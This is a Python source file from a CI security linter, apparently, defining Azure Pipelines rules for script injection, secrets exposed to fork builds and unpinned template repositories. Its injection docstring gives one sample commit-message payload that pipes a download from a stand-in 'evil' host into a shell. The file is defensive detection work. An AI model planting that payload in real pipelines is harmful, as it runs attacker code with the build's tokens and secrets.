"""Azure Pipelines rules and their checks: CI070 to CI072."""

from __future__ import annotations

import enum
import re
from collections.abc import Iterator, Mapping
from typing import ClassVar

from outwork.analyzers.pipelines.azure import (
    ENVIRONMENT,
    MACRO_RE,
    PREDEFINED_PREFIXES,
    AzureFile,
    AzureJob,
    inputs_value,
)
from outwork.analyzers.pipelines.checks import SystemCheck
from outwork.analyzers.pipelines.data import systems
from outwork.analyzers.pipelines.paths import key_path
from outwork.analyzers.pipelines.scripts import (
    MAX_FINDINGS_PER_SCRIPT,
    Landing,
    Origin,
    Script,
    Shell,
    injection_finding,
    injections,
    is_secret_name,
)
from outwork.analyzers.pipelines.yamlpos import Node
from outwork.core.analyzer import Emitted
from outwork.core.findings import Fact, finding
from outwork.core.rules import Confidence, Layer, Rule, Severity

_SHA_RE = re.compile(r"^[0-9a-f]{40}$")
_ALIAS_RE = re.compile(r"^[\w.-]+$")
#: Conditions that keep a job away from pull requests or forks (lower-cased text).
_GUARD_RE = re.compile(
    r"system\.pullrequest\.isfork|"
    r"ne\(\s*variables(?:\[\s*'build\.reason'\s*\]|\.build\.reason)\s*,\s*'pullrequest'\s*\)|"
    r"notin\(\s*variables(?:\[\s*'build\.reason'\s*\]|\.build\.reason)[^)]*'pullrequest'|"
    r"(?:eq|startswith)\(\s*variables(?:\[\s*'build\.sourcebranch'\s*\]|\.build\.sourcebranch)"
    r"\s*,\s*'refs/(?:heads|tags)/"
)


class AzureScriptInjection(Rule):
    """An Azure pipeline pastes a commit message, branch name or parameter into a script.

    ## What it finds
    `script`, `bash`, `pwsh` and `powershell` steps, and the inline scripts of the `Bash`,
    `CmdLine`, `PowerShell`, `AzureCLI` and `AzurePowerShell` tasks, whose text holds an
    attacker-controlled value that Azure substitutes before the script runs:

    - macros `$(Build.SourceVersionMessage)`, `$(Build.SourceVersionAuthor)`,
      `$(Build.RequestedFor)`, `$(Build.SourceBranch)`, `$(Build.SourceBranchName)`,
      `$(System.PullRequest.SourceBranch)`, and variables of the file built from them;
    - template and runtime expressions reading them (`${{ variables['Build.SourceBranch'] }}`);
    - `${{ parameters.x }}` of a free `string` parameter (no `values:` list), which the caller
      of a template or whoever queues the run chooses (low).

    Substitution happens in the text, so quotes do not help: a commit message holding
    `"; curl https://evil/x | sh; "` ends the string and runs. The same values read by the shell
    (`"$BUILD_SOURCEVERSIONMESSAGE"`, or a step `env:` entry) are data: they are reported
    only when an evaluator parses them (`eval`, `bash -c`, `Invoke-Expression`: the severity of
    the value's origin) or when they are expanded without quotes in a POSIX shell (low).

    Severity follows who chooses the value. Free text (a commit message: a merged pull
    request's squash commit carries its title; an author's display name) reaches the
    pipelines of the default branch that hold the secrets, so it is high. Branch and tag names
    are medium: in Azure a pull request build runs the pipeline file of the pull request
    itself, so whoever names the branch can also edit the script; the name still reaches
    builds whose file they cannot change (a protected template, `extends` with required
    templates, a resource-triggered pipeline). Azure has no predefined variable for a pull
    request's title or description; a script that fetches them through the REST API is not
    followed.

    ## Why it matters
    The script runs with the job's access token (`System.AccessToken`), its service
    connections and its secret variables.

    ## Example
    ```yaml
    steps:
      - bash: echo "Building $(Build.SourceVersionMessage)"
    ```

    ## Remediation
    Pass the value through `env:` and quote it in the script
    (`env: { MSG: $(Build.SourceVersionMessage) }` then `echo "$MSG"`); give string
    parameters a `values:` list.

    ## References
    - Microsoft Learn, "Use predefined variables" (Azure Pipelines)
    - Microsoft Learn, "Template parameters: parameter data types" (Azure Pipelines)
    - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    """

    code = "CI070"
    name = "azure-pipelines-script-injection"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Origin.TEXT: Severity.HIGH,
        Origin.BRANCH: Severity.MEDIUM,
        Origin.PARAMETER: Severity.LOW,
        Landing.UNQUOTED: Severity.LOW,
    }
    cwe = (78, 94)
    attack = ("T1059",)


class AzureForkBuildSecrets(Rule):
    """An Azure pipeline that builds pull requests uses secrets without keeping forks out.

    ## What it finds
    Jobs of a pipeline that pull requests start (`pr:` absent, which builds pull requests of
    GitHub and Bitbucket repositories by default, or anything but `pr: none`) that use a
    variable group, a secret-looking variable not defined in the file (`$(NPM_TOKEN)`), a
    service connection (`azureSubscription`, `containerRegistry`, ...) or a task that fetches
    secrets (`AzureKeyVault`, `DownloadSecureFile`, `InstallSSHKey`), with no `condition` on
    the job or its stage that keeps pull requests or forks out
    (`ne(variables['Build.Reason'], 'PullRequest')`, `System.PullRequest.IsFork`, or a test of
    `Build.SourceBranch` against `refs/heads/...`/`refs/tags/...`).

    Whether builds of forks receive the secrets is the pipeline's setting "Make secrets
    available to builds of forks", which is not in the file; confidence is low for that
    reason. With it on, a fork's pull request edits the pipeline file and the scripts it
    runs, so every such secret is the fork's.

    ## Why it matters
    A secret reachable from a fork's build is a secret published to anyone who opens a pull
    request.

    ## Example
    ```yaml
    variables:
      - group: release-secrets
    steps:
      - script: ./publish.sh
    ```

    ## Remediation
    Keep "Make secrets available to builds of forks" off, and guard secret-using jobs with
    `condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'))` or a
    separate pipeline without a `pr` trigger.

    ## References
    - Microsoft Learn, "Build GitHub repositories: contributions from forks" (Azure Pipelines)
    - CWE-668: Exposure of Resource to Wrong Sphere
    """

    code = "CI071"
    name = "azure-pipelines-fork-build-secrets"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.LOW
    cwe = (668, 200)


class RepositoryRef(enum.Enum):
    """How a repository resource is referenced."""

    MOVING = "no ref (the default branch) or a branch"
    TAGGED = "a tag (a tag can be moved)"


class AzureUnpinnedRepository(Rule):
    """An Azure pipeline takes templates or code from another repository at a moving ref.

    ## What it finds
    `resources.repositories` entries of type `github`, `githubenterprise`, `bitbucket` or
    `git` without `ref` (the default branch) or with a branch `ref` (medium), or with a tag
    (low). A `ref` that is a full commit SHA is quiet. The evidence names the templates the
    file takes from the repository (`template: build.yml@templates`).

    ## Why it matters
    Templates from the repository run inside this pipeline with its secrets and service
    connections; whoever can push to that branch changes what this pipeline runs.

    ## Example
    ```yaml
    resources:
      repositories:
        - repository: templates
          type: github
          name: contoso/pipeline-templates
          endpoint: contoso
    extends:
      template: build.yml@templates
    ```

    ## Remediation
    Pin `ref` to a commit SHA, or to a tag protected in the other repository, and protect
    its branches.

    ## References
    - Microsoft Learn, "resources.repositories.repository definition" (Azure Pipelines)
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "CI072"
    name = "azure-pipelines-unpinned-repository"
    layer = Layer.CI
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        RepositoryRef.MOVING: Severity.MEDIUM,
        RepositoryRef.TAGGED: Severity.LOW,
    }
    cwe = (829, 494)
    attack = ("T1195.001",)


class AzureInjectionCheck(SystemCheck[AzureFile]):
    rules = (AzureScriptInjection,)
    system = "azure"

    def document(self) -> Iterator[Emitted]:
        file = self.model
        for job in file.jobs:
            for step, script, _node in file.scripts(job):
                environment = file.environment(job, step)
                derived = {k: v for k, v in environment.items() if k not in ENVIRONMENT}
                origins = {**ENVIRONMENT}
                for count, found in enumerate(injections(script, origins, derived)):
                    if count >= MAX_FINDINGS_PER_SCRIPT:
                        break
                    what = _written(script, found.offset, found.landing, found.name)
                    yield injection_finding(AzureScriptInjection, script, found, what)


def _written(script: Script, offset: int, landing: Landing, name: str) -> str:
    """The reference as the file writes it (``$(Build.SourceBranchName)``, ``${{ ... }}``)."""
    text = script.text
    if landing is Landing.SPLICED:
        if text.startswith("${{", offset):
            end = text.find("}}", offset)
            return text[offset : end + 2] if end > 0 else name
        if text.startswith("$[", offset):
            end = text.find("]", offset)
            return text[offset : end + 1] if end > 0 else name
        return f"$({name})"
    return f"$env:{name}" if script.shell is Shell.POWERSHELL else f"${name}"


class AzureForkSecretsCheck(SystemCheck[AzureFile]):
    rules = (AzureForkBuildSecrets,)
    system = "azure"

    def document(self) -> Iterator[Emitted]:
        file = self.model
        if not file.runs_for_pull_requests:
            return
        for job in file.jobs:
            if _GUARD_RE.search(job.conditions()):
                continue
            uses = _secret_uses(file, job)
            if not uses:
                continue
            node, what, _ = uses[0]
            yield finding(
                AzureForkBuildSecrets,
                f"job {job.name} runs for pull requests and uses {what} without a condition"
                " that keeps forks out",
                line=node.line,
                column=node.col,
                logical=key_path(*job.where) if job.where else "steps",
                evidence=f"pr -> {job.name} -> {what}",
            )
            target = f"job:{file.path}#{job.name}"
            yield Fact(
                "entry:fork-pull-request",
                "triggers",
                target,
                proof=f"{file.path}: pr",
                # whether forks' builds get the secrets is a setting of the service, not the file
                properties={"trust": "untrusted-code", "confidence": "low"},
            )
            for label in sorted({label for _, _, label in uses}):
                yield Fact(target, "exposes", f"jewel:secret:{label}", proof=file.path)


def _secret_uses(file: AzureFile, job: AzureJob) -> list[tuple[Node, str, str]]:
    """What secrets the job can read: (where, description, the secret's name) for variable
    groups, secret-looking variables the file does not define, service connections and
    secret-fetching tasks."""
    found = [(node, f"variable group {name}", name) for name, node in file.groups(job)]
    defined = file.variables(job)
    for step in job.steps:
        if _GUARD_RE.search(step.node.text("condition").lower()):
            continue
        task = step.node.text("task").strip().lower().split("@", 1)[0]
        if task in systems.AZURE_SECRET_TASKS:
            name = step.node.text("task").strip()
            found.append((step.node, f"task {name}", name))
        inputs = step.node.get("inputs")
        for key in systems.AZURE_CONNECTION_INPUTS:
            value = inputs_value(inputs, key) if inputs is not None else ""
            if value:
                found.append((step.node, f"service connection {value}", value))
                break
        for text_node in step.node.strings():
            for match in MACRO_RE.finditer(text_node.value):
                name = match.group(1)
                lower = name.lower()
                if lower in defined or lower.startswith(PREDEFINED_PREFIXES):
                    continue
                if is_secret_name(name):
                    found.append((text_node, f"secret variable $({name})", name))
    return found


class AzureRepositoryCheck(SystemCheck[AzureFile]):
    rules = (AzureUnpinnedRepository,)
    system = "azure"

    def document(self) -> Iterator[Emitted]:
        root = self.model.root
        repos = root.sub("resources", "repositories")
        if repos is None:
            return
        templates = _templates_by_alias(self.model.doc.root)
        for index, repo in enumerate(repos.seq()):
            if not repo.is_map:
                continue
            kind = repo.text("type", "git").strip().lower()
            if kind not in ("github", "githubenterprise", "bitbucket", "git"):
                continue
            alias = repo.text("repository").strip()
            name = repo.text("name").strip() or alias
            ref = repo.text("ref").strip()
            target = ref.removeprefix("refs/heads/").removeprefix("refs/tags/")
            if _SHA_RE.match(target):
                continue
            what = RepositoryRef.TAGGED if ref.startswith("refs/tags/") else RepositoryRef.MOVING
            why = "no ref (its default branch)" if not ref else f"ref {ref}"
            used = templates.get(alias, [])
            node = repo.get("ref") or repo.get("name") or repo
            yield finding(
                AzureUnpinnedRepository,
                f"repository {name} is taken at {why}, not a commit SHA"
                + (f"; this file runs its templates {', '.join(used[:3])}" if used else ""),
                line=node.line,
                column=node.col,
                logical=key_path("resources", "repositories", index),
                severity=AzureUnpinnedRepository.severity_in(what),
                evidence=f"{alias} -> {name} @ {ref or 'default branch'}",
            )


def _templates_by_alias(root: Node) -> dict[str, list[str]]:
    """Template references to other repositories (``build.yml@templates``) by alias."""
    out: dict[str, list[str]] = {}
    for node in root.strings():
        path, _, alias = node.value.strip().rpartition("@")
        if path.endswith((".yml", ".yaml")) and _ALIAS_RE.match(alias):
            out.setdefault(alias, []).append(node.value.strip())
    return out
